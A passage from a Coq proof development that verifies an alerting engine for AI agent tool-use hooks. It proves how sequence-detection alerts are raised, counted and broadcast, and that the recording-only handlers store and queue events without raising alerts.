  intros HR HPQ Hall. induction Hall as [|x y xs ys Hxy _ IH]; constructor.
  - apply HPQ; [|done]. by inversion HR.
  - apply IH. by inversion HR.
Qed.

Lemma raises_nothing event w : raises event w w [].
Proof.
  unfold raises. simpl. rewrite !app_nil_r.
  split; [done|]. split; [constructor|]. split.
  { rewrite <- (map_id (sessions (database w))) at 1. apply map_ext. intros s.
    by destruct (String.eqb _ _). }
  split; [done|]. split; [lia | done].
Qed.

Lemma raises_trans event w w1 w2 new1 new2 :
  raises event w w1 new1 -> raises event w1 w2 new2 -> raises event w w2 (new1 ++ new2).
Proof.
  intros (A1 & F1 & S1 & B1 & N1 & Q1 & P1 & E1 & T1 & G1 & D1)
         (A2 & F2 & S2 & B2 & N2 & Q2 & P2 & E2 & T2 & G2 & D2).
  unfold raises. rewrite A2, A1, S2, S1, B2, B1, Q2, Q1, P2, P1, E2, E1, T2, T1, G2, G1, D2, D1.
  split; [by rewrite app_assoc|]. split.
  { apply Forall_app. split.
    - eapply Forall_impl; [exact F1|]. intros a (? & ? & ? & ?). repeat split; try done; lia.
    - eapply Forall_impl; [exact F2|]. intros a (? & ? & ? & ?). repeat split; try done; lia. }
  split.
  { rewrite map_map. apply map_ext. intros s. rewrite length_app.
    destruct (String.eqb (s_session_id s) (ev_session_id event)) eqn:Hs; [|by rewrite Hs].
    destruct (iter_bump_fields (length new1) s) as (-> & _). rewrite Hs.
    by rewrite Nat.add_comm, Nat.iter_add. }
  split; [by rewrite map_app, app_assoc|]. split; [lia | done].
Qed.

Lemma raises_drawn event w w' new :
  alert_ids_drawn w -> raises event w w' new -> alert_ids_drawn w'.
Proof.
  intros Hfresh (A & F & _ & _ & N & _) a. rewrite A. intros Hin.
  apply in_app_or in Hin as [Hin|Hin].
  - specialize (Hfresh a Hin). lia.
  - rewrite List.Forall_forall in F. destruct (F a Hin) as [? _]. lia.
Qed.

Lemma policies_raise event w :
  alert_ids_drawn w ->
  exists new,
    raises event w (snd (_evaluate_policies event w)) new /\
    _sequence_tracker (snd (_evaluate_policies event w)) = _sequence_tracker w.
Proof.
  intros Hfresh. unfold _evaluate_policies.
  destruct (evaluate_policies_loop event (_policies w) w Hfresh)
    as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
  exists new. split; [|done]. unfold raises.
  split; [done|]. split; [|done].
  eapply Forall2_Forall_right; [|exact Hall].
  intros p a (id & t & -> & Hid). by simpl.
Qed.

Lemma sequences_raise event w :
  alert_ids_drawn w ->
  exists new,
    raises event w (snd (_evaluate_sequences event w)) new /\
    Forall (fun a => alert_policy_id a = None) new /\
    _sequence_tracker (snd (_evaluate_sequences event w)) =
      fst (track_event (_sequence_tracker w) (ev_id event) (ev_session_id event)
                       (ev_timestamp event) (_event_to_dict event)).
Proof.
  intros Hfresh.
  destruct (evaluate_sequences_loop event w Hfresh)
    as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
  exists new. split; [|split; [|done]].
  - unfold raises. split; [done|]. split; [|done].
    eapply Forall2_Forall_right; [|exact Hall].
    intros m a (id & t & -> & Hid).
    destruct (sequence_alert_of_fields event (fst m) (snd m) id t)
      as (-> & -> & _ & -> & _ & _ & -> & _).
    done.
  - eapply Forall2_Forall_right; [|exact Hall].
    intros m a (id & t & -> & Hid).
    by destruct (sequence_alert_of_fields event (fst m) (snd m) id t)
      as (_ & _ & _ & _ & -> & _).
Qed.

(** X23: for each match the tracker reports, [_evaluate_sequences] raises
    one alert, in the order of the matches: a new alert of the session, of
    the severity of the rule and the category of the event, not blocked,
    bound to no policy and tagged [sequence-detection] after the tags of
    the rule; it lists the matched events and carries one evidence item
    for each of them, one per step of the rule.  The alerts are counted on
    the session and broadcast; the tracker is the one [track_event] left,
    and its buffers still hold lists of strings. *)
Theorem evaluate_sequences_alerts (event : Event) (w : Engine) :
  alert_ids_drawn w ->
  evidence_ready (_sequence_tracker w) ->
  let tracked := track_event (_sequence_tracker w) (ev_id event) (ev_session_id event)
                             (ev_timestamp event) (_event_to_dict event) in
  let w' := snd (_evaluate_sequences event w) in
  _sequence_tracker w' = fst tracked /\
  evidence_ready (_sequence_tracker w') /\
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun m a =>
               In (fst m) (_rules (_sequence_tracker w)) /\
               (forall a0, In a0 (alerts (database w)) -> alert_id a0 <> alert_id a) /\
               alert_session_id a = ev_session_id event /\
               alert_severity a = rule_severity (fst m) /\
               alert_category a = ev_category event /\
               alert_policy_id a = None /\
               alert_blocked a = false /\
               alert_tags a = rule_tags (fst m) ++ ["sequence-detection"] /\
               alert_event_ids a = map be_event_id (snd m) /\
               map evidence_event_id (alert_evidence a) = alert_event_ids a /\
               length (alert_evidence a) = length (rule_steps (fst m)))
            (snd tracked) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    (forall s, s_alert_count (Nat.iter (length new) bump_alert_count s) =
               s_alert_count s + Z.of_nat (length new)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    events (database w') = events (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  intros Hfresh Hready tracked w'.
  destruct (evaluate_sequences_loop event w Hfresh)
    as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
  fold w' in Ha, Hall, Hs, Hb, Hn, Hq, Hpc, Ht, He, Hpt, Hgn, Hge.
  fold tracked in Hall, Ht.
  split; [done|]. split; [rewrite Ht; by apply track_event_ready|].
  exists new. split; [done|]. split.
  { eapply (Forall2_refine _ _ (fun m => In m (snd tracked))); [| |exact Hall].
    - apply List.Forall_forall. auto.
    - intros [rule result] a Hm (id & t & Ha' & Hid). cbn [fst snd] in Ha' |- *. subst a.
      apply track_event_matches in Hm as (Hr & Hlen & _).
      destruct (sequence_alert_of_fields event rule result id t)
        as (-> & -> & -> & -> & -> & -> & -> & _ & -> & Hev).
      rewrite firstn_all2 in Hev by lia.
      split; [done|]. split.
      { intros a0 Hin. specialize (Hfresh a0 Hin). lia. }
      repeat (split; [done|]).
      rewrite <- (length_map evidence_event_id), Hev, length_map. done. }
  split; [done|]. split; [intros s; apply iter_bump_fields|]. done.
Qed.

Lemma get_event_other db event other :
  other <> ev_id event ->
  get_event_by_id (save_event db event) other = get_event_by_id db other.
Proof.
  intros Hne. unfold get_event_by_id, save_event. simpl.
  rewrite find_snoc, find_filter_other by done.
  destruct (List.find (fun e => N.eqb (ev_id e) other) (events db)); [done|].
  destruct (N.eqb_spec (ev_id event) other); [congruence | done].
Qed.

Lemma add_risk_zero s : add_risk 0 s = s.
Proof. destruct s. unfold add_risk. simpl. by rewrite Z.add_0_r. Qed.

Lemma save_event_tables db event :
  sessions (save_event db event) = sessions db /\
  alerts (save_event db event) = alerts db /\
  policies (save_event db event) = policies db /\
  graph_nodes (save_event db event) = graph_nodes db /\
  graph_edges (save_event db event) = graph_edges db.
Proof. done. Qed.

Lemma risk_score_tables db sid delta :
  sessions (increment_session_risk_score db sid delta) =
    map (fun s => if String.eqb (s_session_id s) sid then add_risk delta s else s)
        (sessions db) /\
  events (increment_session_risk_score db sid delta) = events db /\
  alerts (increment_session_risk_score db sid delta) = alerts db /\
  policies (increment_session_risk_score db sid delta) = policies db /\
  graph_nodes (increment_session_risk_score db sid delta) = graph_nodes db /\
  graph_edges (increment_session_risk_score db sid delta) = graph_edges db.
Proof. done. Qed.

Lemma increment_risk_zero db sid : increment_session_risk_score db sid 0 = db.
Proof.
  unfold increment_session_risk_score, update_session, set_sessions.
  destruct db as [ss es als ps ns gs]. simpl. f_equal.
  rewrite <- (map_id ss) at 2. apply map_ext. intros s0.
  destruct (String.eqb _ _); [by rewrite add_risk_zero | done].
Qed.


End ProcessingFacts.

Module ProcessingExample.
Import Store Classifier Sequence Engine LiteralRe PreToolExample GraphExample AlertingExample.

(** A rule of one step that every event matches. *)
Definition any_tool_rule : SequenceRule :=
  mkRule "SEQ-ANY" "Any tool" "one step, any event"
    [mkStep "Any event" [] []] 300 true ALERT HIGH "" "" ["demo"] true.

Definition tracking_engine : Engine :=
  mkEngine (mkDatabase [one_session] [] [] [block_all; watch_all; log_all] [] [])
           [] [block_all; watch_all; log_all]
           (load_rules new_tracker [any_tool_rule]) 100%N 5 [].

(** The same event, reported after the tool has run. *)
Definition post_event : Event :=
  mkEvent 43%N "s1" 1 "PostToolUse" None None None UNKNOWN INFO [] [] [] []
          false false None.

Example process_pre_tool_event :
  let w' := snd (@_process_event literal_re no_hostname no_condition_eval
                                 bare_event tracking_engine) in
  map alert_policy_id (alerts (database w')) = [None] /\
  map alert_tags (alerts (database w')) = [["demo"; "sequence-detection"]] /\
  map s_alert_count (sessions (database w')) = [1] /\
  map ev_processed (events (database w')) = [true] /\
  length (broadcasts w') = 2%nat.
Proof. vm_compute. repeat split. Qed.

Example process_post_tool_event :
  let w' := snd (@_process_event literal_re no_hostname no_condition_eval
                                 post_event tracking_engine) in
  map alert_policy_id (alerts (database w')) = [Some 8%N; None] /\
  map s_alert_count (sessions (database w')) = [2] /\
  length (broadcasts w') = 3%nat.
Proof. vm_compute. repeat split. Qed.

#[local] Existing Instance literal_re.
#[local] Existing Instance no_hostname.
#[local] Existing Instance no_condition_eval.

Lemma evaluate_sequences_alerts_witness :
  let event := post_event in
  let w := tracking_engine in
  alert_ids_drawn w /\
  evidence_ready (_sequence_tracker w) /\
  let tracked := track_event (_sequence_tracker w) (ev_id event) (ev_session_id event)
                             (ev_timestamp event) (_event_to_dict event) in
  let w' := snd (_evaluate_sequences event w) in
  _sequence_tracker w' = fst tracked /\
  evidence_ready (_sequence_tracker w') /\
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun m a =>
               In (fst m) (_rules (_sequence_tracker w)) /\
               (forall a0, In a0 (alerts (database w)) -> alert_id a0 <> alert_id a) /\
               alert_session_id a = ev_session_id event /\
               alert_severity a = rule_severity (fst m) /\
               alert_category a = ev_category event /\
               alert_policy_id a = None /\
               alert_blocked a = false /\
               alert_tags a = rule_tags (fst m) ++ ["sequence-detection"] /\
               alert_event_ids a = map be_event_id (snd m) /\
               map evidence_event_id (alert_evidence a) = alert_event_ids a /\
               length (alert_evidence a) = length (rule_steps (fst m)))
            (snd tracked) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    (forall s, s_alert_count (Nat.iter (length new) bump_alert_count s) =
               s_alert_count s + Z.of_nat (length new)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    events (database w') = events (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  assert (alert_ids_drawn tracking_engine) as Hfresh by (by intros a []).
  assert (evidence_ready (_sequence_tracker tracking_engine)) as Hready.
  { intros sid buf e Hb. simpl in Hb. by rewrite lookup_empty in Hb. }
  split; [done|]. split; [done|].
  exact (evaluate_sequences_alerts post_event tracking_engine Hfresh Hready).
Defined.


End ProcessingExample.


(** ** The handlers that only record *)

Section RecordingFacts.
Import Store Engine Collector.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

Lemma create_session_frame payload request w :
  let session := fst (_create_or_update_session payload request w) in
  let w' := snd (_create_or_update_session payload request w) in
  s_alert_count session =
    match get_session_by_id (database w) (hp_session_id payload) with
    | Some old => s_alert_count old
    | None => 0
    end /\
  alerts (database w') = alerts (database w) /\
  events (database w') = events (database w) /\
  broadcasts w' = broadcasts w /\
  _sequence_tracker w' = _sequence_tracker w.
Proof.
  intros session w'. unfold session, w', _create_or_update_session.
  destruct (get_session_by_id (database w) (hp_session_id payload)) as [old|] eqn:Hold;
    [done|].
  unfold new_session. destruct (_resolve_endpoint_fields payload request) as [hn us].
  cbn -[save_session]. unfold save_session.
  by destruct (existsb _ _).
Qed.

Lemma collect_received_run hook_type payload request w :
  let w1 := snd (_create_or_update_session payload (Some request) w) in
  let event :=
    set_hook_type (fst (from_hook_payload payload w1)) hook_type in
  collect_received hook_type payload request w =
  ([("status", JStr "received")],
   mkEngine
     (increment_session_event_count (save_event (database w1) event)
        (hp_session_id payload))
     (_event_queue w1 ++ [event]) (_policies w1) (_sequence_tracker w1)
     (N.succ (next_uuid w1)) (clock w1) (broadcasts w1)).
Proof.
  cbn zeta. unfold collect_received, bind at 1.
  destruct (_create_or_update_session payload (Some request) w) as [s1 w1].
  reflexivity.
Qed.

Lemma collect_received_records hook_type : records hook_type (collect_received hook_type).
Proof.
  intros payload request w response w' sid. unfold response, w'.
  rewrite collect_received_run. cbn zeta. cbn [fst snd].
  pose proof (create_session_known payload (Some request) w) as Hc.
  pose proof (create_session_frame payload (Some request) w) as Hf.
  cbn zeta in Hc, Hf. destruct Hc as (Hs1 & Hcount & Hq1 & Hp1).
  destruct Hf as (Hac & Hal & Hev & Hb & Ht).
  set (w1 := snd (_create_or_update_session payload (Some request) w)) in *.
  set (s1 := fst (_create_or_update_session payload (Some request) w)) in *.
  set (event := set_hook_type _ _).
  cbn [database _event_queue _policies _sequence_tracker broadcasts].
  split; [done|]. split; [|split].
  - exists event. rewrite Hq1. split; [|by repeat split].
    unfold increment_session_event_count, update_session, get_event_by_id. simpl.
    by rewrite find_snoc, find_filter_self, N.eqb_refl.
  - rewrite get_session_counted. unfold sid. rewrite Hs1. simpl.
    eexists. split; [done|]. split; [done|]. split; [done|]. simpl.
    by rewrite Hcount, Hac.
  - split; [|done].
    unfold increment_session_event_count, update_session, save_event. simpl. exact Hal.
Qed.

(** X25: [post-tool-use], [post-tool-use-error], [permission-request] and
    [user-prompt-submit] only record.  Each answers [received], stores the
    event as the payload gives it under the hook type of its endpoint
    (whatever hook type the payload names), neither enriched nor
    processed, and queues it once; the session is there afterwards, active
    and not ended, with one more event counted.  None of them raises or
    broadcasts an alert or touches the sequence tracker: for these events
    detection happens only when the queue is processed. *)
Theorem collect_handlers_record :
  records "PostToolUse" collect_post_tool_use /\
  records "PostToolUseFailure" collect_post_tool_use_error /\
  records "PermissionRequest" collect_permission_request /\
  records "UserPromptSubmit" collect_user_prompt_submit.
Proof.
  unfold collect_post_tool_use, collect_post_tool_use_error,
    collect_permission_request, collect_user_prompt_submit.
  split; [apply collect_received_records|].
  split; [apply collect_received_records|].
  split; apply collect_received_records.
Qed.

End RecordingFacts.
